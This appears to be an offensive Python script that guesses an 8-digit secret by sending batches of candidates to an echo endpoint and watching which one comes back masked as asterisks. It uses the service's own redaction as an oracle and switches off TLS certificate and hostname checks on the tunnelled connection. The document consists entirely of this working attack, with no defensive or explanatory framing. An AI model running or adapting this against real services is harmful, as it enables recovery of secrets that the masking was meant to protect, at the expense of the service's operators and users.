# Guesses a secret by sending guesses to a host that echoes bodies: the right one comes back masked. Arguments: the first guess, how many.
first, count = int(sys.argv[1]), int(sys.argv[2])
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
found = None
with context.wrap_socket(tunnel("good.example:443"), server_hostname="good.example") as inside:
    for at in range(first, first + count, 2000):
        guesses = [f"{number:08}" for number in range(at, min(at + 2000, first + count))]
        body = "\n".join(guesses).encode()
        inside.sendall(b"POST /echo HTTP/1.1\r\nhost: good.example\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
        said = b""
        while b"\r\n\r\n" not in said or len(said.partition(b"\r\n\r\n")[2]) < len(body):
            piece = inside.recv(65536)
            if not piece:
                break
            said += piece
        back = said.partition(b"\r\n\r\n")[2].decode("latin1").split("\n")
        found = next((guess for guess, one in zip(guesses, back) if one == "********"), found)
print("found", found or "nothing", flush=True)
sys.exit(0)
